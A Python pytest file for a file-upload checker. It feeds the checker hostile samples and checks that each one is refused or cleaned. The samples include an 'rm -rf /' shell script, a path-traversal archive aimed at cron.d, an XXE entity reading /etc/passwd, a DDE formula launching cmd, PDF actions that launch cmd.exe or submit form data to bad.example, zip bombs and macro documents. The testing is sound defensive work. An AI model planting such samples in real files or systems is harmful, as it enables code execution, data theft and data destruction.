"""What somebody hostile may bring: each is refused with a sentence that says what to do, or made harmless."""

import struct
from io import BytesIO

import pytest
from PIL import Image
from pypdf.generic import ArrayObject, DictionaryObject, NameObject

from eciap.foundation.files.checks import FileRefused, check_file
from eciap.foundation.files.enums import DOCUMENTS, PICTURES, Kind, Reason
from tests.foundation.files.makers import (
    OLE,
    SCRIPT,
    action,
    annotated,
    archive,
    lying_archive,
    office,
    opened,
    overlapping_archive,
    packed,
    pdf,
    picture,
    placed,
    png_that_claims,
    relations,
    with_catalogue,
)

EVERYTHING = frozenset(Kind)
SVG = b'<?xml version="1.0"?><!-- a drawing --><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
JAVASCRIPT = action("/JavaScript", JS="app.alert(1)")
EXTERNAL = {"word/_rels/settings.xml.rels": relations(("attachedTemplate", "http://bad.example/a.dotm", "External"))}

HOSTILE = {
    # Not what is asked for, whatever it is called
    "a Windows program": (b"MZ\x90\0" + bytes(200), Reason.PROGRAM),
    "a Linux program": (b"\x7fELF\x02\x01\x01" + bytes(200), Reason.PROGRAM),
    "a shell script": (b"#!/bin/sh\nrm -rf /\n", Reason.PROGRAM),
    "a web page": (b"<!DOCTYPE html><html>" + SCRIPT + b"</html>", Reason.WEB_PAGE),
    "a web page in UTF-16": ("<html><script>alert(1)</script>".encode("utf-16"), Reason.WEB_PAGE),
    "a web page behind a comment": (b"\xef\xbb\xbf <!-- text --> <body onload=alert(1)>", Reason.WEB_PAGE),
    "a drawing with a script": (SVG, Reason.DRAWING),
    "a drawing with a doctype": (b"<!DOCTYPE svg [<!ENTITY a 'b'>]>\n<svg onload='alert(1)'/>", Reason.DRAWING),
    "a packed drawing": (b"\x1f\x8b\x08\0" + bytes(60), Reason.ARCHIVE),
    "an old Office file": (OLE, Reason.OLD_OFFICE),
    "rich text with an object": (b"{\\rtf1{\\object\\objocx}}", Reason.OLD_OFFICE),
    "a moving picture with a script": (b"GIF89a/*" + SCRIPT + bytes(9), Reason.NOT_TAKEN),
    "bytes without a meaning": (bytes(range(256)) * 9, Reason.NOT_TAKEN),
    "nothing": (b"", Reason.EMPTY),
    # Archives
    "a bomb": (lambda: archive({"a.txt": bytes(201 * 1024**2)}), Reason.UNPACKS_TOO_LARGE),
    "a bomb that lies about its size": (lambda: lying_archive(201 * 1024**2, 40), Reason.UNPACKS_TOO_LARGE),
    "a bomb of overlapping parts": (overlapping_archive(150), Reason.DAMAGED),
    "a bomb of many parts": (lambda: archive({f"{n}": b"" for n in range(5_001)}), Reason.TOO_MANY_PARTS),
    "a bomb in an archive": (archive({"a.zip": archive({"b": bytes(9)})}), Reason.ARCHIVE_WITHIN),
    "an archive that leads out": (archive({"../../etc/cron.d/job": b"* * * * *"}), Reason.LEADS_OUT),
    "an archive with a folder of Windows": (archive({"C:\\a.txt": b"text"}), Reason.LEADS_OUT),
    "an archive with a program": (archive({"holiday.jpg": b"MZ" + bytes(99)}), Reason.PROGRAM),
    "an archive behind a page": (SCRIPT + archive({"a.txt": b"text"}), Reason.WEB_PAGE),
    "an archive with a page at its end": (archive({"a.txt": b"text"}) + SCRIPT, Reason.TWO_IN_ONE),
    "a picture in front of an archive": (picture("GIF") + archive({"a": b"b"}), Reason.NOT_TAKEN),
    # Office documents
    "a document with macros": (office("docm", {"word/vbaProject.bin": OLE}), Reason.MACROS),
    "a document with macros under another name": (office("docx", {"word/VBAproject.bin": OLE}), Reason.MACROS),
    "a table with old macros": (office("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"}), Reason.MACROS),
    "a document with a control": (office("docx", {"word/activeX/activeX1.xml": b"<a/>"}), Reason.MACROS),
    "a document with a template elsewhere": (office("docx", EXTERNAL), Reason.RUNS),
    "a document with an object": (office("docx", {"word/embeddings/oleObject1.bin": OLE}), Reason.RUNS),
    "a document with a document with macros": (
        office("docx", {"word/embeddings/a.docx": office("docm")}),
        Reason.MACROS,
    ),
    "a table that asks another program": (
        office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/>"}),
        Reason.RUNS,
    ),
    "a document with an entity": (
        office("docx", {"word/_rels/a.rels": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
        Reason.DAMAGED,
    ),
    "an open document with macros": (opened("text", {"Basic/Standard/Module1.xml": b"<a/>"}), Reason.MACROS),
    "an open document that calls a script": (
        opened("text", {"styles.xml": b'<a xlink:href="vnd.sun.star.script:a.py$b"/>'}),
        Reason.RUNS,
    ),
    "a locked open document": (
        opened("text", {"META-INF/manifest.xml": b"<manifest:encryption-data/>"}),
        Reason.LOCKED,
    ),
    # PDF
    "a PDF with a program": (
        with_catalogue("/Names", DictionaryObject({NameObject("/JavaScript"): JAVASCRIPT})),
        Reason.PDF_RUNS,
    ),
    "a PDF that opens with a program": (with_catalogue("/OpenAction", JAVASCRIPT), Reason.PDF_RUNS),
    "a PDF with a packed program": (packed(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"), Reason.PDF_RUNS),
    "a PDF with a program under a roundabout name": (
        packed(b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
        Reason.PDF_RUNS,
    ),
    "a PDF that starts a program": (with_catalogue("/OpenAction", action("/Launch", F="cmd.exe")), Reason.PDF_RUNS),
    "a PDF that sends what is filled in": (
        with_catalogue("/OpenAction", action("/SubmitForm", F="http://bad.example")),
        Reason.PDF_RUNS,
    ),
    "a PDF with a film": (annotated({"/Subtype": "/RichMedia"}), Reason.PDF_RUNS),
    "a PDF with files": (pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")), Reason.PDF_FILES),
    "a PDF with a packed file": (packed(b"<</S/GoToR/F<</#45F<<>>>>>>"), Reason.PDF_FILES),
    "a PDF with a pinned file": (annotated({"/Subtype": "/FileAttachment"}), Reason.PDF_FILES),
    "a PDF that nobody can look into": (pdf(lambda writer: writer.encrypt("", "secret")), Reason.LOCKED),
    "a PDF that is an archive": (pdf() + archive({"a.txt": b"text"}), Reason.TWO_IN_ONE),
    "a PDF that is a short archive": (pdf()[:-6] + archive({"a": b""}) + b"\n%%EOF\n", Reason.TWO_IN_ONE),
    "a PDF that is a page": (pdf().replace(b"\n", b"\n%" + SCRIPT + b"\n", 1), Reason.TWO_IN_ONE),
    "a PDF with a page at its end": (pdf() + SCRIPT, Reason.TWO_IN_ONE),
    "half a PDF": (pdf()[:200], Reason.DAMAGED),
    # Tables of text
    "a table that starts a program": (b"name,sum\nAnna,=cmd|' /C calc'!A0\n", Reason.FORMULA),
    "a table in another encoding": ("Stadt;Zahl\nKöln;3".encode("latin-1"), Reason.NOT_UTF8),
    # Pictures
    "a picture of a billion pixels": (lambda: png_that_claims(32_000, 32_000), Reason.TOO_MANY_PIXELS),
    "half a picture": (picture("PNG")[:-30], Reason.BROKEN),
}
CLEANED = {
    "a picture with its place": picture("JPEG", exif=placed()),
    "a picture with a page at its end": picture("JPEG") + SCRIPT,
    "a picture that is an archive": picture("PNG") + archive({"a.txt": SCRIPT}),
    "a picture with a page in its notes": picture("WEBP", xmp=SCRIPT, exif=placed()),
    "a picture with a page in its comment": picture("JPEG", comment=SCRIPT),
}


def checked(content: bytes, *, name="me.pdf", kinds=EVERYTHING - {Kind.TXT}, largest=20 * 1024**2):
    return check_file(BytesIO(content), name=name, kinds=kinds, largest=largest)


def refusal(content: bytes, **given) -> FileRefused:
    with pytest.raises(FileRefused) as refused:
        checked(content, **given)
    return refused.value


@pytest.mark.parametrize("what", HOSTILE)
def test_what_is_hostile_is_refused_with_a_reason(what):
    content, reason = HOSTILE[what]
    refused = refusal(content() if callable(content) else content)
    assert refused.reason is reason
    assert str(refused).endswith(".")
    assert "%(" not in str(refused)


@pytest.mark.parametrize("what", CLEANED)
def test_what_can_be_cleaned_is_cleaned(what):
    content = CLEANED[what]
    assert b"<script" in content or b"Exif" in content or b"PK\x03\x04" in content
    clean = checked(content)
    kept = clean.stream.read()
    assert clean.kind in PICTURES
    assert [secret in kept for secret in (b"<script", b"Exif", b"PK\x03\x04")] == [False] * 3
    assert dict(Image.open(BytesIO(kept)).getexif()) == {}


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (pdf(), Kind.PDF),
        (office("docx"), Kind.DOCX),
        (office("xlsx"), Kind.XLSX),
        (office("pptx"), Kind.PPTX),
        (office("docx", {"word/embeddings/chart.xlsx": office("xlsx")}), Kind.DOCX),
        (office("docx", {"a.rels": relations(("hyperlink", "https://a.example", "External"))}), Kind.DOCX),
        (opened("text"), Kind.ODT),
        (opened("spreadsheet"), Kind.ODS),
        (opened("presentation"), Kind.ODP),
        (archive({"a.txt": b"text", "folder/b.csv": b"a;b"}), Kind.ZIP),
        ("\ufeffville;nombre\nLiège;3\n".encode(), Kind.CSV),
        (picture("JPEG"), Kind.JPEG),
        (picture("AVIF"), Kind.AVIF),
    ],
)
def test_what_is_sound_is_taken_whatever_it_is_called(content, kind):
    clean = checked(content, name="../me.exe")
    assert (clean.kind, clean.name) == (kind, f"me.{kind.extension}")
    if kind not in PICTURES:
        assert (clean.stream.read(), clean.size) == (content, len(content))


def test_text_is_taken_for_a_table_where_it_has_columns():
    asked = frozenset({Kind.CSV, Kind.TXT})
    kinds = [checked(text, kinds=asked).kind for text in (b"a,b\n1,2\n", b"Dear all\n")]
    assert kinds == [Kind.CSV, Kind.TXT]


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (picture(), Reason.NOT_TAKEN),
        (office("docx"), Reason.NOT_TAKEN),
        (office("dotx"), Reason.NOT_TAKEN),
        (opened(mimetype="application/vnd.oasis.opendocument.graphics"), Reason.NOT_TAKEN),
        (archive({"a.txt": b"text"}), Reason.ARCHIVE),
        (b"a,b\n", Reason.NOT_TAKEN),
    ],
)
def test_only_what_is_asked_for_is_taken(content, reason):
    refused = refusal(content, kinds={Kind.PDF, Kind.XLSX})
    assert refused.reason is reason
    if reason is Reason.NOT_TAKEN:
        assert str(refused) == "This kind of file is not taken here. Use one of these: PDF, XLSX."


def test_the_limit_holds_to_the_byte():
    content = pdf()
    assert checked(content, largest=len(content)).size == len(content)
    assert refusal(content, largest=len(content) - 1).reason is Reason.TOO_LARGE


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"PK\x03\x04", Reason.DAMAGED),
        (archive({}), Reason.ARCHIVE),
        (archive({"a": b"b", "A": b"c"}), Reason.DAMAGED),
        (archive({"a": b"text" * 99}).replace(b"+I\xad", b"\xff\xff\xff", 1), Reason.DAMAGED),
        (archive({"a": b"text"}, compression=14), Reason.DAMAGED),
        (lying_archive(4_000, 4_001), Reason.DAMAGED),
        (archive({"name": b"text"}).replace(b"name", b"eman", 1), Reason.DAMAGED),
        (office("docx", {"word/comments.xml": b"\0<\0a"}), Reason.DAMAGED),
        (office("docx", {"word/_rels/a.rels": b"<a"}), Reason.DAMAGED),
        (office("docx", {"word/embeddings/a.zip": archive({"a": b"b"})}), Reason.RUNS),
        (
            office("docx", {"word/embeddings/a.docx": office("docx", {"word/embeddings/b.docx": office("docx")})}),
            Reason.RUNS,
        ),
        (pdf().replace(b"/Pages", b"/Sages"), Reason.DAMAGED),
        (pdf(lambda writer: writer.remove_page(0)), Reason.DAMAGED),
        (pdf()[:-6] + b" " * 1_030, Reason.DAMAGED),
        (archive({"[Content_Types].xml": b"<Types/>"}, compression=0).replace(b"<Ty", b"<Ta", 1), Reason.DAMAGED),
        (b'a,"' + b"x" * 140_000 + b'"\n', Reason.DAMAGED),
        (b"a,b\x07\n", Reason.NOT_UTF8),
    ],
)
def test_what_is_damaged_is_refused(content, reason):
    assert refusal(content).reason is reason


def test_a_locked_archive_is_refused():
    content = bytearray(archive({"a": b"text"}))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    assert refusal(bytes(content)).reason is Reason.LOCKED


def test_bytes_hidden_behind_a_packed_part_are_noticed():
    content = archive({"a": b"text"})
    begin = content.index(b"PK\x01\x02")
    size = struct.unpack("<I", content[18:22])[0]
    longer = struct.pack("<I", size + 8)
    head = content[:18] + longer + content[22 : 30 + 1 + size] + b"<script>"
    tail = content[begin : begin + 20] + longer + content[begin + 24 : -6] + struct.pack("<I", begin + 8) + b"\0\0"
    assert refusal(head + tail).reason is Reason.TWO_IN_ONE


def test_a_pdf_of_too_many_objects_is_not_walked_through(monkeypatch):
    monkeypatch.setattr("eciap.foundation.files.checks.pdf.MOST_OBJECTS", 3)
    assert refusal(pdf()).reason is Reason.TOO_MANY_PARTS


def test_a_harmless_list_in_a_pdf_is_walked_through():
    listed = ArrayObject([DictionaryObject({NameObject("/Kind"): NameObject("/Harmless")})])
    assert checked(with_catalogue("/Extra", listed)).kind is Kind.PDF


def test_there_are_more_than_forty_of_them():
    assert len(HOSTILE) + len(CLEANED) > 40
    assert DOCUMENTS < EVERYTHING
